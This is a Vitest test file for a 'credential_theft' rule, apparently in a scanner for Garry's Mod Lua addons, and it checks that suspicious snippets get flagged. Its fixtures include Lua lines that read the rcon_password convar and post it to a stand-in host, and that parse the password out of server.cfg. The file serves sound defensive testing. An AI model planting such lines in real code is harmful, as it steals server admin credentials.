// Valid and invalid cases of the `credential_theft` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './credential_theft.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('credential_theft', () => {
  it('rcon_password convar read', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local p = GetConVarString("rcon_password")\nhttp.Post("https://a.invalid/", {p = p})',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('server.cfg parsed', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local cfg = file.Read("cfg/server.cfg", "GAME") or ""\nlocal pw = string.match(cfg, "rcon_password%s+\\"(.-)\\"")',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('ordinary convar', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'local h = GetConVarString("hostname")',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
